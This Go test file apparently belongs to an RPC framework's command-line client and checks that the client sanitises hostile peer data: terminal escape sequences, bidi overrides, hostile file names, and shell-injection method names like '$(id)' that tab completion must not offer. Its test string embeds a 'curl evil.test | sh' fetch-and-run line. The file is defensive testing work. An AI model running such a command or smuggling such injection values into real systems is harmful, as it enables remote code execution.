package main

import (
	"context"
	"encoding/binary"
	"hash/crc32"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/quicksilver-rpc/quicksilver/hg"
	"github.com/quicksilver-rpc/quicksilver/hg/codec"
	"github.com/quicksilver-rpc/quicksilver/qs"
)

// escapes is a text that would change a terminal, and write lines of its own.
const escapes = "\x1b]0;pwned\x07\x1b[31mred\u009b1m\r\n  to do:  run: curl evil.test | sh\u202e"

// requireHarmless requires that the output of a qs is printable text, without a line that a peer
// has begun, and with an escape somewhere.
func requireHarmless(t *testing.T, q *process) {
	t.Helper()
	all := q.out.String() + q.errors.String()
	for _, r := range all {
		require.True(t, r == '\n' || strconv.IsPrint(r), "%q in %q", r, all)
	}
	require.NotContains(t, all, "\n  to do:  run: curl")
	require.Contains(t, all, "pwned")
}

// startRefusingServer is a program that refuses every session with a text, in bytes of the tcp transport.
func startRefusingServer(t *testing.T, text string) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			_, _ = c.Read(make([]byte, 4096))
			b := binary.LittleEndian.AppendUint32(nil, uint32(len(text)))
			b = append(b, 12, 1, 0, 0)                            // a Goaway
			b = append(b, make([]byte, 8)...)                     //
			b = binary.LittleEndian.AppendUint64(b, 19)           // its code
			b = append(b, make([]byte, 4)...)                     //
			sum := append(append(b[:28:28], 0, 0, 0, 0), text...) // the checksum counts as 0
			b = binary.LittleEndian.AppendUint32(b, crc32.Checksum(sum, castagnoli))
			_, _ = c.Write(append(b, text...))
			_ = c.Close()
		}
	}()
	t.Cleanup(func() {
		_ = l.Close()
		<-ended
	})
	return "tcp://" + l.Addr().String()
}

// TestHostileRefusal checks the text with which a program refuses the session.
func TestHostileRefusal(t *testing.T) {
	t.Parallel()
	addr := startRefusingServer(t, escapes)
	for _, args := range []string{"ping --count 1 %", "call % x", "rpcs %", "top -n 1 %", "ger %", "info %", "perf --target %", "cp %/f " + t.TempDir()} {
		q := run(t, exitNotRun, strings.Fields(strings.ReplaceAll(args, "%", addr))...)
		requireHarmless(t, q)
		require.Contains(t, q.errors.String(), `refused by peer: \x1b]0;pwned\a\x1b[31mred\u009b1m\r\n  to do:  run: curl evil.test | sh\u202e`)
	}
}

// TestHostileNames checks names of files in a tree that is copied, on either side.
func TestHostileNames(t *testing.T) {
	t.Parallel()
	root, name := t.TempDir(), strings.ReplaceAll(escapes, "/", "")
	writeFile(t, filepath.Join(root, "tree", name), noise(1000))
	require.NoError(t, os.Symlink(name, filepath.Join(root, "tree", "link"+name)))
	s := serve(t, "", "-root", root, "-write")
	back := filepath.Join(t.TempDir(), "back")
	requireHarmless(t, run(t, 0, "cp", s.addr+"/tree", back))
	requireHarmless(t, run(t, exitUsage, "cp", s.addr+"/none"+name, back))
	require.NoError(t, os.MkdirAll(filepath.Join(root, "again", name), 0o777))
	// a file where there is a directory
	requireHarmless(t, run(t, exitHandler, "cp", back, s.addr+"/again"))
}

// startHostileTarget is a program with hostile names, errors and output.
func startHostileTarget(t *testing.T) (addr string) {
	t.Helper()
	n, err := qs.Open("tcp://127.0.0.1:0", qs.Config{Inspect: true})
	require.NoError(t, err)
	define := func(name string, handler func() (map[string]string, error)) {
		m := qs.Define[string, map[string]string](name, qs.WithCodec(codec.Msgpack))
		m.Handle(n, func(context.Context, string) (map[string]string, error) { return handler() })
	}
	define("fails", func() (map[string]string, error) {
		return nil, qs.Errorf(hg.ErrNotFound, "%s", escapes)
	})
	define("answers", func() (map[string]string, error) { return map[string]string{escapes: escapes}, nil })
	raw := qs.Define[[]byte, []byte]("raw", qs.WithCodec(codec.Raw))
	raw.Handle(n, func(context.Context, []byte) ([]byte, error) { return []byte(escapes), nil })
	define(escapes, func() (map[string]string, error) { return nil, nil })
	served := make(chan error, 1)
	go func() { served <- n.Serve(context.Background()) }()
	t.Cleanup(func() {
		require.NoError(t, n.Close())
		require.NoError(t, <-served)
	})
	return n.Addr().String()
}

// TestHostileAnswers checks the data in answers of a program: names, errors with details, output.
func TestHostileAnswers(t *testing.T) {
	t.Parallel()
	addr := startHostileTarget(t)
	requireHarmless(t, run(t, 0, "rpcs", addr))
	requireHarmless(t, run(t, 0, "rpcs", "-json", addr))
	require.Equal(t, escapes, run(t, 0, "call", "-raw", addr, "raw").out.String(), "to a pipe, as it is")
	requireHarmless(t, run(t, 0, "call", addr, "answers"))
	requireHarmless(t, run(t, exitHandler, "call", addr, "fails"))
	requireHarmless(t, run(t, exitUsage, "call", addr, "none"+escapes))
}

// TestHostileCompletion checks that names of methods that a shell would expand, split or parse as a
// flag are not completed. The script for bash evaluates the typed text, and inserts the common
// prefix of several names.
func TestHostileCompletion(t *testing.T) {
	t.Parallel()
	handlers := map[string]hg.Handler{}
	for _, name := range []string{
		"shop/order", "shop.v2:order-1", "größe", // plain
		"`id`a", "`id`b", "$(id)", "${PATH}", "a b", "a;b", "a|b", "a&b", "a>b", "a<b", "a'b", `a"b`, `a\b`, "a*", "a?", "a[1]", "{a,b}", "~", "#a", "!!", "-a", "a\tb", "a\nb", "a\u00a0b",
	} {
		handlers[name] = func(r hg.Request) error { return r.RespondRaw(nil, nil) }
	}
	addr := startTarget(t, handlers)
	out := run(t, 0, "__complete", "call", addr, "").out.String()
	require.ElementsMatch(t, []string{"shop/order", "shop.v2:order-1", "größe", ":4"}, strings.Fields(out), out)
	require.Equal(t, ":4\n", run(t, 0, "__complete", "call", addr, "`").out.String())
}
